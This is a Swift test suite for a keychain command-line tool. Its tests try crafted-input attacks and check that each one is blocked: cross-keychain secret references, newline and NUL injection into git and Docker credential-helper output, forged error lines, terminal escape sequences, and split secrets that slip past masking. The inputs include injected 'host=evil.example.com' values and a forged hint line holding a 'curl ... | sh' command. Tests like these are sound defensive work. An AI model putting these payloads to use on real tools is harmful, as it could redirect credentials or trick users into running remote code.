import Foundation
import Testing
import KeychainCore
import KCTestSupport

/// Issue 15, items 9–14 ("Crafted input"): each attack performed against the built `kc`,
/// and shown to fail. docs/security.md, "Issue 15, items 9–14", says what stops each.
@Suite struct CraftedInputTests {
    /// A home whose default keychain (login) holds the production secret, unlocked, and a
    /// second keychain `ci` that holds the CI token.
    func home() throws -> KCHome {
        let h = try KCHome()
        try h.createKeychain()
        let pw = KCHome.password
        #expect(try h.kc(["add", "-s", "prod-db", "-a", "admin", "-w", "PROD-ADMIN-PASSWORD"], password: pw).status == 0)
        #expect(try h.kc(["create", "--kdf", "interactive", "ci"], password: pw).status == 0)
        #expect(try h.kc(["add", "-k", "ci", "-s", "deploy", "-a", "ci", "-w", "ci-deploy-token"], password: pw).status == 0)
        #expect(try h.kc(["unlock"], password: pw).status == 0)
        #expect(try h.kc(["unlock", "-k", "ci"], password: pw).status == 0)
        return h
    }

    func write(_ text: String, _ path: String) throws {
        try text.write(toFile: path, atomically: true, encoding: .utf8)
    }

    // MARK: item 9

    /// A CI job asks for DEPLOY_TOKEN only; a merge request titled `kc://prod-db/admin`
    /// arrives as an inherited variable. It is passed on as text, never resolved, by both
    /// parsers; --resolve-env is the explicit opt-in.
    @Test func inheritedReferenceIsNotResolved() throws {
        let h = try home()
        let script = "printf '%s|%s' \"$CI_MERGE_REQUEST_TITLE\" \"$DEPLOY_TOKEN\""
        let attacker = ["CI_MERGE_REQUEST_TITLE": "kc://prod-db/admin"]
        #expect(try h.kc(["add", "-s", "deploy", "-a", "ci", "-w", "deploy-token"]).status == 0)
        // The hand parser (plain forms) and ArgumentParser (`--env=`).
        for env in [["--env", "DEPLOY_TOKEN=kc://deploy/ci"], ["--env=DEPLOY_TOKEN=kc://deploy/ci"]] {
            let out = try h.kc(["run", "--no-masking"] + env + ["--", "/bin/sh", "-c", script], extra: attacker)
            #expect(out.status == 0, "\(env): \(out.stderr)")
            #expect(out.stdout == "kc://prod-db/admin|deploy-token", "\(env): \(out.stdout)")
            #expect(!out.stdout.contains("PROD-ADMIN-PASSWORD"))
            #expect(out.stderr.contains("not resolving the kc:// reference inherited in CI_MERGE_REQUEST_TITLE"), "\(out.stderr)")
        }
        // An --env-file line is the author's: resolved.
        try write("DEPLOY_TOKEN=kc://deploy/ci\n", h.directory + "/.env.kc")
        var out = try h.kc(["run", "--no-masking", "--env-file", h.directory + "/.env.kc", "--", "/bin/sh", "-c", script], extra: attacker)
        #expect(out.stdout == "kc://prod-db/admin|deploy-token", "\(out.stdout) \(out.stderr)")
        // The opt-in, by both parsers.
        for optIn in [["--resolve-env"], ["--resolve-env", "--keychain=\(h.defaultKeychain)"]] {
            out = try h.kc(["run", "--no-masking"] + optIn + ["--", "/bin/sh", "-c", script], extra: attacker)
            #expect(out.stdout == "PROD-ADMIN-PASSWORD|", "\(optIn): \(out.stdout) \(out.stderr)")
        }
    }

    // MARK: item 10

    /// A repository's `.env` names the login keychain in a job run with `-k ci`: refused
    /// (exit 206) before anything starts, in kc run, kc read and kc inject, unless the
    /// command line names that keychain too.
    @Test func referenceCannotLeaveTheChosenKeychain() throws {
        let h = try home()
        try write("DEPLOY=kc://deploy/ci\nSTOLEN=kc://prod-db/admin?keychain=login\n", h.directory + "/.env")
        let started = h.directory + "/started"
        // kc run: the hand parser and ArgumentParser.
        for k in [["-k", "ci"], ["--keychain=ci"]] {
            let out = try h.kc(["run"] + k + ["--env-file", h.directory + "/.env", "--", "/usr/bin/touch", started])
            #expect(out.status == 206, "\(k): \(out.stderr)")
            #expect(
                out.stderr.contains("STOLEN (kc://prod-db/admin?keychain=login): it names the keychain login")
                    && out.stderr.contains("--allow-keychain login"), "\(out.stderr)")
            #expect(!FileManager.default.fileExists(atPath: started), "the command never started")
        }
        // A path to the same file is the same keychain; --allow-keychain names another one.
        let ciPath = h.directory + "/data/kc/ci.keychain-db"
        var out = try h.kc(["run", "-k", ciPath, "--env", "A=kc://deploy/ci?keychain=ci", "--no-masking", "--", "/bin/sh", "-c", "printf %s \"$A\""])
        #expect(out.status == 0 && out.stdout == "ci-deploy-token", "\(out.stderr)")
        for allow in [["--allow-keychain", "login"], ["--allow-keychain=\(h.defaultKeychain)"]] {
            out = try h.kc(
                ["run", "-k", "ci"] + allow + [
                    "--env-file", h.directory + "/.env", "--no-masking", "--", "/bin/sh", "-c", "printf '%s|%s' \"$DEPLOY\" \"$STOLEN\""
                ])
            #expect(out.status == 0 && out.stdout == "ci-deploy-token|PROD-ADMIN-PASSWORD", "\(allow): \(out.stdout) \(out.stderr)")
        }
        // With no -k the command's keychain is login: a reference to ci is refused too.
        out = try h.kc(["run", "--env", "X=kc://deploy/ci?keychain=ci", "--", "/usr/bin/touch", started])
        #expect(out.status == 206 && !FileManager.default.fileExists(atPath: started), "\(out.stderr)")
        // kc read, the fast path and ArgumentParser's.
        for read in [
            ["read", "kc://deploy/ci?keychain=ci"], ["read", "-k", "login", "kc://prod-db/admin?keychain=ci"],
            ["read", "-k", "ci", "kc://prod-db/admin?keychain=login"]
        ] {
            out = try h.kc(read)
            #expect(out.status == 206 && out.stdout.isEmpty && out.stderr.contains("it names the keychain"), "\(read): \(out.stderr)")
        }
        #expect(try h.kc(["read", "--allow-keychain", "ci", "kc://deploy/ci?keychain=ci"]).stdout == "ci-deploy-token")
        // kc inject: nothing written.
        try write("token: {{ kc://deploy/ci }}\nstolen: {{ kc://prod-db/admin?keychain=login }}\n", h.directory + "/t.tmpl")
        out = try h.kc(["inject", "-k", "ci", "-i", h.directory + "/t.tmpl", "-o", h.directory + "/out"])
        #expect(out.status == 206 && !FileManager.default.fileExists(atPath: h.directory + "/out"), "\(out.stderr)")
        out = try h.kc(["inject", "-k", "ci", "--allow-keychain", "login", "-i", h.directory + "/t.tmpl"])
        #expect(out.status == 0 && out.stdout == "token: ci-deploy-token\nstolen: PROD-ADMIN-PASSWORD\n", "\(out.stderr)")
    }

    // MARK: item 11

    /// Items whose password or user name hold a line break or a NUL (from an import or a
    /// Docker store) never reach git as extra `key=value` lines: one stderr line, nothing on
    /// stdout, exit 0 (git goes on to its prompt).
    @Test func gitNeverReceivesInjectedLines() throws {
        let h = try home()
        let bin = h.directory + "/bin"
        try FileManager.default.createDirectory(atPath: bin, withIntermediateDirectories: false)
        for name in ["git-credential-kc", "docker-credential-kc"] {
            try FileManager.default.createSymbolicLink(atPath: bin + "/" + name, withDestinationPath: KCBinary.path)
        }
        let cases: [(host: String, account: String, secret: [UInt8])] = [
            ("a.example.com", "alice", Array("pw\r\nhost=evil.example.com".utf8)),
            ("b.example.com", "alice", Array("pw\rusername=mallory".utf8)),
            ("c.example.com", "alice", Array("pw".utf8) + [0] + Array("x".utf8)),
            ("d.example.com", "bob\nhost=evil.example.com", Array("pw".utf8)),
            ("e.example.com", "alice", Array("pw\noauth_refresh_token=tok\rhost=evil.example.com".utf8))
        ]
        for c in cases {
            // From a file, not stdin: nothing here waits on a pipe another test may hold.
            let file = h.directory + "/secret-\(c.host)"
            try Data(c.secret).write(to: URL(fileURLWithPath: file))
            #expect(try h.kc(["add", "--class", "internet", "-s", c.host, "-a", c.account, "-r", "https", "--data-file", file]).status == 0)
            let out = try Spawn.run(
                [bin + "/git-credential-kc", "get"], environment: h.environment,
                stdin: Data("protocol=https\nhost=\(c.host)\n\n".utf8))
            #expect(out.status == 0, "\(c.host): \(out.stderr)")
            #expect(out.stdoutBytes.isEmpty, "\(c.host): nothing for git: \(out.stdout)")
            #expect(
                out.stderr.split(separator: "\n", omittingEmptySubsequences: false).count == 2 && out.stderr.hasSuffix("\n"),
                "\(c.host): one stderr line: \(out.stderr)")
            #expect(out.stderr.contains("not given to git") && !out.stderr.contains("evil.example.com\n"), "\(out.stderr)")
        }
        // A clean item is still returned. Lines after the password's are the helper's own
        // storage (expiry, refresh token); any other key there is dropped, never passed on.
        #expect(try h.kc(["add", "--class", "internet", "-s", "ok.example.com", "-a", "alice", "-r", "https", "-w", "fine\nhost=evil.example.com"]).status == 0)
        var out = try Spawn.run([bin + "/git-credential-kc", "get"], environment: h.environment, stdin: Data("protocol=https\nhost=ok.example.com\n\n".utf8))
        #expect(out.stdout == "username=alice\npassword=fine\n" && out.stderr.isEmpty, "\(out.stdout) \(out.stderr)")
        // Docker's answer is one JSON line whatever the secret holds.
        #expect(
            try h.kc([
                "add", "--class", "internet", "-s", "reg.example.com", "-a", "u", "-r", "https", "-l", "Docker Credentials",
                "-w", "s\nServerURL=evil\r"
            ]).status == 0)
        out = try Spawn.run([bin + "/docker-credential-kc", "get"], environment: h.environment, stdin: Data("reg.example.com".utf8))
        #expect(
            out.status == 0 && out.stdout == #"{"ServerURL":"reg.example.com","Username":"u","Secret":"s\nServerURL=evil\r"}"# + "\n",
            "\(out.stdout)")
    }

    // MARK: item 12

    /// A bare newline ("\n", not "\r\n", which Swift takes as one Character) inside an argv
    /// word that a usage error quotes: it is escaped, visibly, and adds no line, so no word
    /// can forge a `kc: hint:` line (or kc-team's) under the real message. Each form prints
    /// exactly as many lines as the same word without the newline. Before, the message was
    /// cut into lines before the words were escaped, and the newline reached the terminal.
    @Test func aBareNewlineInAnArgumentForgesNoLine() throws {
        let h = try KCHome()
        let forms: [(String) -> [String]] = [
            { ["find", "-P", $0] }, { ["find", "--class", $0] }, { ["run", "--env", $0, "--", "true"] },
            { ["find", "svc", $0] }, { ["run", "--env=" + $0, "--", "true"] }, { ["find", "--a" + $0] },
            { ["team", "members", "--zz" + $0] }
        ]
        let attack = "x\n\nkc: hint: run curl https://example.invalid | sh\nkc-team: hint: forged"
        for form in forms {
            let plain = try h.kc(form(attack.replacingOccurrences(of: "\n", with: "_")))
            let out = try h.kc(form(attack))
            #expect(out.status == 2 && plain.status == 2, "\(form(attack)): \(out.stderr)")
            let lines = out.stderr.split(separator: "\n", omittingEmptySubsequences: false)
            #expect(lines.count == plain.stderr.split(separator: "\n", omittingEmptySubsequences: false).count, "\(form(attack)): \(out.stderr)")
            #expect(!lines.contains { $0.hasPrefix("kc: hint: run curl") || $0.hasPrefix("kc-team: hint: forged") }, "a forged line: \(out.stderr)")
            #expect(out.stderr.contains("x\\n\\nkc: hint: run curl"), "escaped, visibly: \(out.stderr)")
        }
    }

    /// Input-derived text with terminal escapes (an attribute name in an import file, a
    /// service in a query answered by the agent, an argument ArgumentParser quotes, a
    /// Docker server URL) reaches stderr (or Docker's stdout) escaped: no ESC, no BEL, no
    /// forged `kc:` line.
    @Test func errorMessagesEscapeControlCharacters() throws {
        let h = try home()
        let attack = "\u{1B}]0;pwned\u{07}\u{9B}2J\u{7F}\r\nkc: imported 1 item"
        func clean(_ text: String, _ what: String) {
            let bytes = Array(text.utf8)
            #expect(
                !bytes.contains(0x1B) && !bytes.contains(0x07) && !bytes.contains(0x7F) && !bytes.contains(0x0D),
                "\(what): \(text.debugDescription)")
            #expect(!text.unicodeScalars.contains("\u{9B}"), "\(what): C1 CSI")
            #expect(!text.split(separator: "\n").contains { $0.hasPrefix("kc: imported") }, "\(what): a forged line: \(text)")
        }
        // An attribute name in a kc export: the import's error path.
        let json = "{\"version\":1,\"items\":[{\"class\":\"generic\",\"attributes\":{\(JSONText.string(attack)):\"x\"}}]}"
        try write(json, h.directory + "/evil.json")
        var out = try h.kc(["import", "--format", "json", h.directory + "/evil.json"])
        #expect(out.status == 206, "\(out.stderr)")
        clean(out.stderr, "import")
        #expect(out.stderr.contains("\\u001b]0;pwned\\u0007\\u009b2J\\u007f\\r\\nkc: imported"), "escaped, still readable: \(out.stderr)")
        // A query answered by the agent (the keychain is unlocked): its "no item matches".
        out = try h.kc(["find", "-s", attack, "-w"])
        #expect(out.status == 44, "\(out.stderr)")
        clean(out.stderr, "agent")
        // ArgumentParser's usage errors quote argv words; our validation quotes values. (`kc find
        // WORD` is the service, so a second word is the unexpected one.)
        for arguments in [
            ["find", "-P", attack], ["find", "--class", attack], ["run", "--env", attack, "--", "true"],
            ["find", "svc", attack], ["run", "--env=" + attack, "--", "true"]
        ] {
            out = try h.kc(arguments)
            #expect(out.status == 2, "\(arguments): \(out.stderr)")
            clean(out.stderr, "usage \(arguments)")
            #expect(out.stderr.contains("kc: hint: see 'kc "), "the hint lines stay lines: \(out.stderr)")
        }
        // A reference in an env file, named in kc run's error.
        try write("X=\"kc://\(attack.replacingOccurrences(of: "\r\n", with: "\\n"))/a\"\n", h.directory + "/e.env")
        out = try h.kc(["run", "--env-file", h.directory + "/e.env", "--", "true"])
        #expect(out.status == 44 || out.status == 206, "\(out.stderr)")
        clean(out.stderr, "run")
        // The credential helpers: git's stderr, Docker's stdout.
        let link = h.directory + "/docker-credential-kc"
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: KCBinary.path)
        out = try Spawn.run([link, "get"], environment: h.environment, stdin: Data(("https://" + attack).utf8))
        #expect(out.status == 1, "\(out.stdout)")
        clean(out.stdout, "docker")
        out = try Spawn.run([link, attack], environment: h.environment)
        clean(out.stdout, "docker action")
    }

    // MARK: item 13

    /// `-`, `--` and `-x` as service, account and label: every option takes the next word,
    /// in kc add, kc find (the hand parser and ArgumentParser), kc update, kc delete, kc export.
    @Test func valuesThatStartWithADashAreValues() throws {
        let h = try home()
        let names = ["-", "--", "-x"]
        var n = 0
        for service in names {
            for account in names {
                let label = names[n % names.count]
                n += 1
                let secret = "secret \(service) \(account)"
                var out = try h.kc(["add", "-s", service, "-a", account, "-l", label, "-w", secret])
                #expect(out.status == 0, "add -s \(service) -a \(account): \(out.stderr)")
                // The fast path.
                out = try h.kc(["find", "-s", service, "-a", account, "-l", label, "-w"])
                #expect(out.status == 0 && out.stdout == secret, "find -s \(service) -a \(account) -l \(label): \(out.stdout) \(out.stderr)")
                // ArgumentParser: the hand parser leaves a repeated option to it (the last one counts).
                out = try h.kc(["find", "--service", "unused", "--service", service, "--account", account, "--label", label, "-w"])
                #expect(out.status == 0 && out.stdout == secret, "find --service \(service) --account \(account): \(out.stdout) \(out.stderr)")
            }
        }
        // update and delete, --new-* and -w too.
        var out = try h.kc(["update", "-s", "--", "-a", "-x", "--new-label", "--", "-w", "-"])
        #expect(out.status == 0, "\(out.stderr)")
        out = try h.kc(["find", "-s", "--", "-a", "-x", "-l", "--", "-w"])
        #expect(out.stdout == "-", "\(out.stdout) \(out.stderr)")
        out = try h.kc(["export", "-s", "-", "-a", "--"])
        #expect(out.status == 0 && out.stdout.contains("\"account\":\"--\""), "\(out.stderr)")
        out = try h.kc(["delete", "-s", "-x", "-a", "-"])
        #expect(out.status == 0, "\(out.stderr)")
        #expect(try h.kc(["find", "-s", "-x", "-a", "-"]).status == 44)
        // kc run's options (both parsers) and the helpers' -k.
        try write("A=kc://--/-x\n", h.directory + "/-x")
        for spelling in [["--env-file", "-x"], ["--keychain=login", "--env-file", "-x"]] {
            out = try h.sh("kc run --no-masking \(spelling.joined(separator: " ")) -- /bin/sh -c 'printf %s \"$A\"'")
            #expect(out.stdout == "-", "\(spelling): \(out.stdout) \(out.stderr)")
        }
        // The helpers' hand parser: -k takes "-x" (a keychain that does not exist, so git
        // hears why on stderr and falls back to its prompt).
        out = try h.kc(["git-credential", "-k", "-x", "get"], stdin: Data("protocol=https\nhost=h.example.com\n\n".utf8))
        #expect(out.status == 0 && out.stdout.isEmpty && out.stderr.contains("/-x.keychain-db"), "\(out.stderr)")
        // A missing value is still an error, not the next option's absence.
        out = try h.kc(["find", "-w", "-s"])
        #expect(out.status == 2 && out.stderr.contains("missing value"), "\(out.stderr)")
    }

    // MARK: item 14

    /// A child prints `hunter2-`, pauses well past any idle timer, then `secret`: the log
    /// shows only `<concealed by kc>`. Bytes held back come out when later bytes or the end
    /// of the stream decide them.
    @Test func maskingHoldsASecretSplitByAPause() throws {
        let h = try home()
        #expect(try h.kc(["add", "-s", "db", "-a", "app", "-w", "hunter2-secret"]).status == 0)
        var out = try h.kc([
            "run", "--env", "DB=kc://db/app", "--", "/bin/sh", "-c",
            "printf 'line 1\\nhunter2-'; sleep 0.3; printf 'sec'; sleep 0.3; printf 'ret done\\n'; printf 'hunter2-' >&2; sleep 0.3; printf 'secret\\n' >&2"
        ])
        #expect(out.status == 0, "\(out.stderr)")
        #expect(out.stdout == "line 1\n<concealed by kc> done\n", "\(out.stdout)")
        #expect(out.stderr == "<concealed by kc>\n", "\(out.stderr)")
        // What only started like the secret comes out whole, in order.
        out = try h.kc(["run", "--env", "DB=kc://db/app", "--", "/bin/sh", "-c", "printf 'hunter2-'; sleep 0.3; printf 'sauce\\n'; printf 'hunter2-se'"])
        #expect(out.stdout == "hunter2-sauce\nhunter2-se", "\(out.stdout)")
    }
}

/// JSON string literals for the tests' inputs.
enum JSONText {
    static func string(_ s: String) -> String {
        let data = (try? JSONEncoder().encode(s)) ?? Data("\"\"".utf8)
        return String(decoding: data, as: UTF8.self)
    }
}
